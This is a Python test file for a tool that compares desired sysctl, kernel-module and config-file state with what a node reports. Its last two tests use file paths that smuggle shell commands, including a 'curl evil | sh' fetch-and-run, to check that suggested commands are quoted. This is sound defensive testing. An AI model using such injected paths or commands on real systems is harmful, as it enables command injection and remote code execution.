"""Desired state against facts: each item's status, what apply would do, and what is said after it was done."""

from __future__ import annotations

import shlex
from dataclasses import replace
from typing import Any

import pytest

from tasks.core.boot.simulation import NextBoot
from tasks.core.ownfiles import with_header
from tasks.core.plan.desired import resolve
from tasks.core.plan.diff import Plan, diff
from tasks.core.result import FINE, Item, ItemStatus, Kind, Status, worst_status
from tests.support.boots import applied
from tests.support.boots import facts as configured
from tests.support.builders import MODULES, SYSCTL, OnNode, as_row, facts, rendered

BRIDGE = "net.bridge.bridge-nf-call-iptables"


def plan(sysctl: str | None, modules: str | None, **node: Any) -> Plan:
    values = node.pop("values", {})
    found = facts(values, **node)
    return diff(resolve([rendered(sysctl, modules)], found), found)


def items_of(kind: Kind, sysctl: str | None, modules: str | None, **node: Any) -> list[tuple[str, str, str | None]]:
    return [as_row(item)[1:] for item in plan(sysctl, modules, **node).items if item.kind is kind]


@pytest.mark.parametrize(
    ("line", "node", "row"),
    [
        ("vm.x = 1", {"values": {"vm.x": "1"}}, ("vm.x", "ok", "1")),
        ("vm.x = 0x10", {"values": {"vm.x": "16"}}, ("vm.x", "ok", "16")),
        ("vm.x = 1024 65535", {"values": {"vm.x": "1024\t65535"}}, ("vm.x", "ok", "1024 65535")),
        ("vm.x = 1", {"values": {"vm.x": "0"}}, ("vm.x", "drift", "0")),
        ("vm.x = 1", {"values": {"vm.x": ""}}, ("vm.x", "drift", "")),
        ("vm.x >= 5", {"values": {"vm.x": "5"}}, ("vm.x", "ok", "5")),
        ("vm.x >= 5", {"values": {"vm.x": "9"}}, ("vm.x", "ok", "9")),
        ("vm.x >= 5", {"values": {"vm.x": "4"}}, ("vm.x", "drift", "4")),
        ("vm.x = 1", {}, ("vm.x", "missing", None)),
        ("-vm.x = 1", {}, ("vm.x", "skipped", None)),
        ("-vm.x = 1", {"values": {"vm.x": "0"}}, ("vm.x", "drift", "0")),
        ("vm.x = 1", {"hidden": ["/proc/sys/vm/x"]}, ("vm.x", "drift", "not readable")),
        ("vm.x = 1", {"hidden": ["/proc/sys/vm/x"], "uid": 1000}, ("vm.x", "skipped", "not readable")),
    ],
)
def test_a_key_is_what_the_kernel_shows_of_it(
    line: str, node: dict[str, Any], row: tuple[str, str, str | None]
) -> None:
    assert items_of(Kind.SYSCTL, line, None, **node) == [row]


@pytest.mark.parametrize(
    ("line", "node", "row"),
    [
        ("a", {"loaded": ["a"]}, ("a", "ok", "loaded")),
        ("a", {"builtin": ["a"]}, ("a", "ok", "builtin")),
        ("a", {"in_sys": ["a"]}, ("a", "ok", "builtin")),
        ("a", {"loadable": ["a"]}, ("a", "drift", "not loaded")),
        ("a-b", {"loaded": ["a_b"]}, ("a-b", "ok", "loaded")),
        ("a", {}, ("a", "missing", None)),
        ("a", {"loadable": ["a"], "values": {"kernel.modules_disabled": "1"}}, ("a", "missing", "not loaded")),
        ("a", {"loaded": ["a"], "values": {"kernel.modules_disabled": "1"}}, ("a", "ok", "loaded")),
        ("-a", {}, ("a", "skipped", None)),
        ("-a", {"loadable": ["a"]}, ("a", "drift", "not loaded")),
        ("a | b", {"loadable": ["b"]}, ("b", "drift", "not loaded")),
        ("a | b", {}, ("a", "missing", None)),
        ("ip_vs", {"loaded": ["ip_vs_rr"]}, ("ip_vs", "missing", None)),
    ],
)
def test_a_module_is_what_the_kernel_shows_of_it(
    line: str, node: dict[str, Any], row: tuple[str, str, str | None]
) -> None:
    assert items_of(Kind.MODULE, None, line, **node) == [row]


@pytest.mark.parametrize(
    ("node", "status", "why", "step"),
    [
        ({}, "missing", "does not have it", "package of extra modules"),
        ({"tree": False, "other_trees": ["6.2"]}, "missing", "replaced since the boot", "reboot"),
        (
            {"values": {"/run/systemd/container": "lxc"}},
            "host-managed",
            "a container (lxc)",
            "load a on its host",
        ),
    ],
    ids=["not in this kernel", "kernel replaced", "container"],
)
def test_a_module_that_cannot_be_had_says_why_and_what_helps(
    node: dict[str, Any], status: str, why: str, step: str
) -> None:
    (item,) = (item for item in plan(None, "a", **node).items if item.kind is Kind.MODULE)
    assert (item.status, item.got) == (status, None)
    assert why in item.why
    assert step in item.next_step


@pytest.mark.parametrize("module", ["br_netfilter", "br-netfilter"])
def test_a_key_that_comes_with_a_module_of_the_profile_is_set_after_it(module: str) -> None:
    found = plan(f"{BRIDGE} = 1", module, loadable=["br_netfilter"])
    assert (found.modules, found.keys) == ((module,), ((BRIDGE, "1"),))
    (item,) = (item for item in found.items if item.kind is Kind.SYSCTL)
    assert (item.status, item.why) == (ItemStatus.DRIFT, "comes with br_netfilter")


@pytest.mark.parametrize(
    ("node", "why", "step"),
    [
        ({"loadable": ["br_netfilter"]}, "which is not loaded", "fab -H NODE fix br_netfilter"),
        ({}, "which is missing", "check its spelling"),
    ],
    ids=["the module could be loaded", "the kernel has no such module"],
)
def test_a_key_whose_module_nobody_asked_for_says_which(node: dict[str, Any], why: str, step: str) -> None:
    (item,) = (item for item in plan(f"{BRIDGE} = 1", None, **node).items if item.kind is Kind.SYSCTL)
    assert (item.status, item.next_step.startswith(step)) == (ItemStatus.MISSING, True)
    assert why in item.why


def test_what_is_missing_is_not_tried() -> None:
    found = plan("vm.x = 1", "a", files={})
    assert (found.keys, found.modules, found.sysctl_files) == ((), (), ())
    assert found.files  # they are still to be written


LINES = ["# c", "vm.x = 1"]
FILE = with_header(SYSCTL.format("p"), "p", LINES)
TEXT = "\n".join(FILE.lines) + "\n"


@pytest.mark.parametrize(
    ("file", "got"),
    [
        (None, "absent"),
        (OnNode(TEXT), "as rendered"),
        (OnNode(TEXT, mode="-rw-r--r--."), "as rendered"),
        (OnNode(TEXT.replace("vm.x = 1", "vm.x = 2")), "1 lines differ"),
        (OnNode(f"{TEXT}vm.y = 1\nvm.z = 1\n"), "2 lines differ"),
        (OnNode(TEXT.replace("sha256", "md5")), "1 lines differ"),
        (OnNode(""), "2 lines differ"),
        (OnNode(f"{TEXT}vm.x = 1\n"), "1 lines differ"),
        (OnNode(TEXT, mode="-rw-------"), "mode 0600, owned by uid 0"),
        (OnNode(TEXT, mode="-rw-rw-r--"), "mode 0664, owned by uid 0"),
        (OnNode(TEXT, uid=33), "mode 0644, owned by uid 33"),
        (OnNode(TEXT, mode="lrwxrwxrwx", link="/dev/null"), "a link to /dev/null"),
        (OnNode(TEXT, mode="drwxr-xr-x"), "not a regular file"),
    ],
)
def test_a_file_is_right_only_if_it_is_the_rendered_one(file: OnNode | None, got: str) -> None:
    found = plan("\n".join(LINES), None, values={"vm.x": "1"}, files={FILE.path: file} if file is not None else {})
    (item,) = (item for item in found.items if item.kind is Kind.FILE)
    assert item.got == got
    assert (item.status is ItemStatus.OK) is (got == "as rendered")
    assert found.files == (() if got == "as rendered" else (FILE,))


def test_a_changed_comment_of_the_template_changes_the_file() -> None:
    found = plan("# other\nvm.x = 1", None, values={"vm.x": "1"}, files={FILE.path: TEXT})
    assert [file.path for file in found.files] == [FILE.path]


def test_a_node_that_is_right_needs_nothing() -> None:
    text = "\n".join(with_header(MODULES.format("p"), "p", ["a"]).lines) + "\n"
    files = {FILE.path: TEXT, MODULES.format("p"): text}
    found = plan("\n".join(LINES), "a", values={"vm.x": "1"}, loaded=["a"], files=files)
    assert {item.status for item in found.items} == {ItemStatus.OK}
    assert (found.files, found.modules, found.sysctl_files, found.keys) == ((), (), (), ())


def test_items_are_told_as_modules_keys_files_and_what_was_skipped() -> None:
    found = plan("vm.x = 1\n-vm.y = 1", "a\n-b\nc", loadable=["a"])
    assert [(str(item.kind), item.name) for item in found.items] == [
        ("module", "a"),
        ("module", "c"),
        ("sysctl", "vm.x"),
        ("file", MODULES.format("p")),
        ("file", SYSCTL.format("p")),
        ("module", "b"),
        ("sysctl", "vm.y"),
    ]


def test_sysctl_is_run_on_every_file_of_keys_once_one_key_differs() -> None:
    both = [rendered(sysctl="vm.x = 1", name="a"), rendered(sysctl="vm.y = 1", name="b")]
    node = facts({"vm.x": "1", "vm.y": "0"})
    found = diff(resolve(both, node), node)
    assert found.sysctl_files == (SYSCTL.format("a"), SYSCTL.format("b"))
    assert found.keys == (("vm.y", "1"),)


def test_sysctl_is_not_run_where_it_would_lower_a_key_that_rose_above_its_floor() -> None:
    node = facts({"vm.x": "9", "vm.y": "0"}, files={SYSCTL.format("p"): "vm.x = 5\n"})
    found = diff(resolve([rendered(sysctl="vm.x >= 5\nvm.y = 1")], node), node)
    assert (found.sysctl_files, found.keys) == ((), (("vm.y", "1"),))


# After an apply


@pytest.mark.parametrize("status", list(ItemStatus))
def test_a_nodes_status_is_that_of_its_worst_item(status: ItemStatus) -> None:
    good = Item(Kind.SYSCTL, "a", ItemStatus.OK, "1", "1")
    found = worst_status([good, good._replace(status=status), good], Status.FAILED)
    if status not in FINE:
        assert found is Status.FAILED
    else:
        assert found is (Status.CHANGED if status is ItemStatus.CHANGED else Status.OK)


def test_a_node_without_items_is_all_right() -> None:
    assert worst_status([], Status.DRIFT) is Status.OK


@pytest.mark.parametrize(("uid", "found"), [(1000, [ItemStatus.BOOT_DRIFT]), (0, [])], ids=["as a user", "as root"])
def test_a_file_that_we_may_not_read_may_undo_everything_at_boot(uid: int, found: list[ItemStatus]) -> None:
    known, _ = applied(("/etc/sysctl.d/zz.conf", ""))
    shut = known.files["/etc/sysctl.d/zz.conf"]._replace(mode=0o600)
    known = replace(known, uid=uid, files={**known.files, shut.path: shut})
    plan = diff(resolve([], known), known, NextBoot(known, known.files))
    assert [item.status for item in plan.items] == found


@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("/etc/modprobe.d/acme-nodeprep-x.conf", True),
        ("/etc/sysctl.d/50-nodeprep-foo.conf", True),
        ("/etc/modprobe.d/nodeprep-x.conf", True),
        ("/etc/sysctl.d/99-zz-nodeprep-x.conf", False),
        ("/etc/modules-load.d/nodeprep-x.conf", False),
    ],
)
def test_a_file_of_somebody_else_is_told_though_its_name_has_ours_in_it(path: str, told: bool) -> None:
    known = configured({path: ""})
    known = replace(known, uid=1000, files={path: known.files[path]._replace(mode=0o600)})
    plan = diff(resolve([], known), known, NextBoot(known, known.files))
    assert [item.name for item in plan.items] == ([path] if told else [])


@pytest.mark.parametrize(
    ("got", "wanted", "why", "step"),
    [
        ("0", "1", "only a reboot takes it back, rollback cannot", ""),
        ("1", "0", "the kernel keeps 1 until the next reboot", "reboot the node once its file is in place"),
    ],
)
def test_a_value_that_stays_until_a_reboot_is_told_before_it_is_written(
    got: str, wanted: str, why: str, step: str
) -> None:
    key = "kernel.kexec_load_disabled"
    seen = facts({key: got})
    (item,) = (x for x in diff(resolve([rendered(f"{key} = {wanted}\n")], seen), seen).items if x.name == key)
    assert (item.status, item.next_step) == (ItemStatus.DRIFT, step)
    assert item.why.endswith(why)


def test_a_path_in_a_command_is_one_word_for_a_shell() -> None:
    path = "/etc/sysctl.d/a;reboot|b # 'c.conf"
    known = facts({}, files={path: OnNode("vm.x = 1\n", mode="-rw-------")}, uid=1000)
    items = diff(resolve([], known), known, NextBoot(known, known.files)).items
    step = next(item.next_step for item in items if item.name == path)
    assert shlex.split(step.rpartition(", or log in")[0]) == ["chmod", "a+rX", path]


def test_a_nodes_path_is_quoted_in_a_step_that_is_meant_to_be_pasted() -> None:
    path = "/etc/sysctl.d/x; curl evil | sh #.conf"
    known = configured({path: ""})
    known = replace(known, uid=1000, files={path: known.files[path]._replace(mode=0o600)})
    (item,) = diff(resolve([], known), known, NextBoot(known, known.files)).items
    assert item.next_step.startswith("chmod a+rX '/etc/sysctl.d/x; curl evil | sh #.conf', or log in")
